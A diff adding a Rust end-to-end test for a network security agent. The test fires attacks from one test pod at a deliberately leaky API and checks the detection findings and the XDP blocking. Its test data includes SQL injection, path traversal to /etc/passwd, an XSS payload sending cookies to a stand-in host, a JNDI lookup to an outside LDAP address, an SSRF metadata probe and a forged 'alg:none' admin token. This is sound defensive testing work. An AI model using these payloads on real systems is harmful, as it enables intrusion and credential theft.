@@ -1,0 +1,288 @@
+//! The detectors end to end: an attacker pod (a customer range in the inventory) against an API
+//! pod that leaks data and stack traces; the agent captures the real traffic and reports each
+//! attack and leak with the attacker's identity and masked evidence; in block mode, the
+//! attacker's next connection is dropped by XDP.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::{net::SocketAddr, path::Path, time::Duration};
+
+use base64::Engine as _;
+use moat_e2e::{
+    RunningAgent, Scratch, StateDir,
+    capture::{PYTHON, peer_script, wait_listening},
+    require_root, two_pods, write_atomically,
+};
+use testbed::{Background, Node, Pod};
+
+fn start_api(server: &Pod, port: u16) -> (Background, SocketAddr) {
+    let address = SocketAddr::new(server.ipv4.into(), port);
+    let process = server
+        .spawn(
+            PYTHON,
+            &[
+                &peer_script("leaky_api.py"),
+                &server.ipv4.to_string(),
+                &port.to_string(),
+            ],
+        )
+        .expect("start the leaky API");
+    wait_listening(server, address);
+    (process, address)
+}
+
+/// The attacker's address is a customer's range: findings name the customer.
+fn inventory(attacker: &Pod) -> String {
+    format!(
+        "ranges:\n  - {{name: partner-lab, kind: customer, customer: Acme Corp, cidrs: [{}/32]}}\n",
+        attacker.ipv4
+    )
+}
+
+fn start_agent(node: &Node, state: &StateDir, files: (&Path, &Path), port: u16) -> RunningAgent {
+    let (inventory, detection) = (files.0.display().to_string(), files.1.display().to_string());
+    let port = port.to_string();
+    RunningAgent::start(
+        node,
+        state,
+        &[],
+        &[
+            "--capture",
+            "on",
+            "--capture-port",
+            &port,
+            "--inventory",
+            &inventory,
+            "--detection",
+            &detection,
+            "--iface-glob",
+            "v*",
+            "--kubernetes",
+            "off",
+            "--new-endpoint-findings",
+            "off",
+            "--new-caller-findings",
+            "off",
+        ],
+    )
+}
+
+/// curl from `client`: the status, or why there was none.
+fn curl(client: &Pod, args: &[&str]) -> Result<String, String> {
+    let mut all = vec![
+        "-sS",
+        "--max-time",
+        "3",
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+    ];
+    all.extend(args);
+    client
+        .run("curl", &all)
+        .map(|output| String::from_utf8_lossy(&output.stdout).into_owned())
+        .map_err(|error| error.to_string())
+}
+
+fn unsigned_token() -> String {
+    let encode = |json: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json);
+    format!(
+        "{}.{}.",
+        encode(r#"{"alg":"none","typ":"JWT"}"#),
+        encode(r#"{"sub":"mallory","scope":"admin"}"#)
+    )
+}
+
+#[test]
+fn an_attacker_pod_is_named_in_the_findings_of_its_attacks_and_the_api_in_its_leaks() {
+    require_root();
+    let (node, attacker, server) = two_pods("detect");
+    const PORT: u16 = 18653;
+    let (_api, address) = start_api(&server, PORT);
+    let scratch = Scratch::new("detect");
+    let (inventory_file, detection_file) = (
+        scratch.file("inventory.yaml"),
+        scratch.file("detection.yaml"),
+    );
+    write_atomically(&inventory_file, &inventory(&attacker));
+    write_atomically(&detection_file, "modes:\n  headers.*: off\n");
+    let state = StateDir::new();
+    let mut agent = start_agent(&node, &state, (&inventory_file, &detection_file), PORT);
+
+    let base = format!("http://{address}");
+    let bearer = format!("Authorization: Bearer {}", unsigned_token());
+    let mark = agent.mark();
+    let url = |path: &str| format!("{base}{path}");
+    let attacks: [(Vec<String>, &str, &str); 7] = [
+        (
+            vec![url("/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--")],
+            "500",
+            "threat.sqli",
+        ),
+        (
+            vec![url("/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd")],
+            "200",
+            "threat.path_traversal",
+        ),
+        (
+            vec![
+                "-H".into(),
+                "Content-Type: application/json".into(),
+                "-d".into(),
+                r#"{"comment":"<script>document.location='//x.example/?c='+document.cookie</script>"}"#.into(),
+                url("/comments"),
+            ],
+            "201",
+            "threat.xss",
+        ),
+        (
+            vec!["-A".into(), "sqlmap/1.7.2#stable (https://sqlmap.org)".into(), url("/")],
+            "200",
+            "threat.scanner",
+        ),
+        (
+            vec!["-H".into(), "X-Api-Version: ${jndi:ldap://198.18.1.10:1389/a}".into(), url("/")],
+            "200",
+            "threat.jndi",
+        ),
+        (
+            vec![url("/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")],
+            "200",
+            "threat.ssrf",
+        ),
+        (vec!["-H".into(), bearer.clone(), url("/me")], "200", "auth.jwt_alg_none"),
+    ];
+    for (args, status, _) in &attacks {
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        assert_eq!(curl(&attacker, &args).as_deref(), Ok(*status), "{args:?}");
+    }
+    for (_, _, kind) in &attacks {
+        let finding = agent.wait_since(mark, Duration::from_secs(10), |record| {
+            record["kind"] == "api.finding" && record["finding"] == *kind
+        });
+        let source = &finding["source"];
+        assert_eq!(source["ip"], attacker.ipv4.to_string(), "{finding}");
+        assert_eq!(source["customer"], "Acme Corp", "{finding}");
+        assert_eq!(
+            finding["destination"]["ip"],
+            server.ipv4.to_string(),
+            "{finding}"
+        );
+        assert_eq!(finding["mode"], "detect", "{finding}");
+        assert!(
+            !finding["rule"].as_str().unwrap_or_default().is_empty() || kind.starts_with("auth."),
+            "which rule fired: {finding}"
+        );
+    }
+    let trace = agent.wait_since(mark, Duration::from_secs(10), |record| {
+        record["finding"] == "leak.stack_trace"
+    });
+    assert_eq!(trace["endpoint"], "/search", "{trace}");
+    assert_eq!(trace["rule"], "trace.python", "{trace}");
+
+    // The server's leak: one finding per kind for the whole list, values never shown.
+    let leak_mark = agent.mark();
+    for _ in 0..3 {
+        assert_eq!(
+            curl(&attacker, &[&format!("{base}/customers")]).as_deref(),
+            Ok("200")
+        );
+    }
+    for kind in ["data.email", "data.payment_card"] {
+        let finding = agent.wait_since(leak_mark, Duration::from_secs(10), |record| {
+            record["finding"] == kind
+        });
+        assert!(
+            finding["message"].as_str().unwrap().starts_with("2 "),
+            "both customers' values are one finding: {finding}"
+        );
+        let text = finding.to_string();
+        for value in ["ann@example.com", "4111 1111 1111 1111", "5500"] {
+            assert!(!text.contains(value), "{value} leaked into {finding}");
+        }
+    }
+    let records = agent.stop();
+    let said = |kind: &str| {
+        records
+            .iter()
+            .filter(|record| record["kind"] == "api.finding" && record["finding"] == kind)
+            .count()
+    };
+    assert_eq!(
+        said("data.email"),
+        1,
+        "the same leak is said once per repeatAfter"
+    );
+    assert_eq!(
+        said("headers.missing_security_headers"),
+        0,
+        "headers.* is off"
+    );
+    for call in records.iter().filter(|record| record["kind"] == "api.call") {
+        assert!(
+            !call.to_string().contains(&unsigned_token()),
+            "credentials never leave the agent: {call}"
+        );
+    }
+}
+
+#[test]
+fn block_mode_drops_the_attackers_next_connection() {
+    require_root();
+    let (node, attacker, server) = two_pods("detectblock");
+    const PORT: u16 = 18654;
+    let (_api, address) = start_api(&server, PORT);
+    let scratch = Scratch::new("detectblock");
+    let (inventory_file, detection_file) = (
+        scratch.file("inventory.yaml"),
+        scratch.file("detection.yaml"),
+    );
+    write_atomically(&inventory_file, &inventory(&attacker));
+    write_atomically(
+        &detection_file,
+        "modes:\n  threat.*: block\nblockFor: 60s\n",
+    );
+    let state = StateDir::new();
+    let mut agent = start_agent(&node, &state, (&inventory_file, &detection_file), PORT);
+
+    let base = format!("http://{address}");
+    assert_eq!(
+        curl(&attacker, &[&format!("{base}/customers")]).as_deref(),
+        Ok("200")
+    );
+    let mark = agent.mark();
+    assert_eq!(
+        curl(
+            &attacker,
+            &[&format!("{base}/search?q=1%27%20OR%20%271%27%3D%271")]
+        )
+        .as_deref(),
+        Ok("500"),
+        "the first attack reaches the server: its captured bytes are what is judged"
+    );
+    let finding = agent.wait_since(mark, Duration::from_secs(10), |record| {
+        record["finding"] == "threat.sqli"
+    });
+    assert_eq!(finding["mode"], "block", "{finding}");
+    let blocked = agent.wait_since(mark, Duration::from_secs(10), |record| {
+        record["finding"] == "policy.blocked"
+    });
+    assert_eq!(blocked["rule"], "threat.sqli", "{blocked}");
+    assert_eq!(blocked["source"]["customer"], "Acme Corp", "{blocked}");
+    let block = agent.wait_since(mark, Duration::from_secs(10), |record| {
+        record["kind"] == "enforce.timed_block"
+    });
+    assert_eq!(block["network"], format!("{}/32", attacker.ipv4), "{block}");
+    assert_eq!(block["ttl_seconds"], 60, "{block}");
+    let refused = curl(&attacker, &[&format!("{base}/customers")]);
+    assert!(
+        refused.is_err(),
+        "the attacker's next connection must fail: {refused:?}"
+    );
+    let denied = agent.wait_since(mark, Duration::from_secs(10), |record| {
+        record["kind"] == "policy.denied"
+    });
+    assert_eq!(denied["reason"], "timed_block", "{denied}");
+    assert_eq!(denied["src"], attacker.ipv4.to_string(), "{denied}");
+    agent.stop();
+}
